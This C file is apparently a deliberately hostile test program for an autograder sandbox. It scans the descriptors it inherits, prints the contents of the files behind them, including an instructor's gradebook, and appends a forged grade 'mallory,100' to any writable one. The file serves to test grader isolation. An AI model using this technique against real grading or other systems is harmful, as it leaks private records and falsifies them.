/* echo_server.c - hostile: use every descriptor inherited from the grader and its caller.
 *
 * The instructor's shell had a gradebook open on fd 3; whatever the grader itself left open
 * comes along too. Read each one from the start (quoted on stderr, which the report shows)
 * and append a forged grade to each one that is writable. */
#include "wlh.h"

int main(void)
{
	for (int fd = 3; fd <= 20; fd++) {
		char link[64], path[512] = "?", buf[256];
		snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
		ssize_t n = readlink(link, path, sizeof path - 1);
		if (n < 0)
			continue;
		path[n] = '\0';
		wlh_evidence("fd-inherit", "fd %d is open: %s", fd, path);
		n = pread(fd, buf, sizeof buf - 1, 0);
		if (n > 0) {
			buf[n] = '\0';
			fprintf(stderr, "fd %d (%s): %s\n", fd, path, buf);
		}
		int fl = fcntl(fd, F_GETFL);
		if (fl >= 0 && (fl & O_ACCMODE) != O_RDONLY)
			if (write(fd, "mallory,100\n", 12) == 12)
				wlh_evidence("fd-inherit", "wrote a forged grade into fd %d", fd);
	}
	return 1;
}
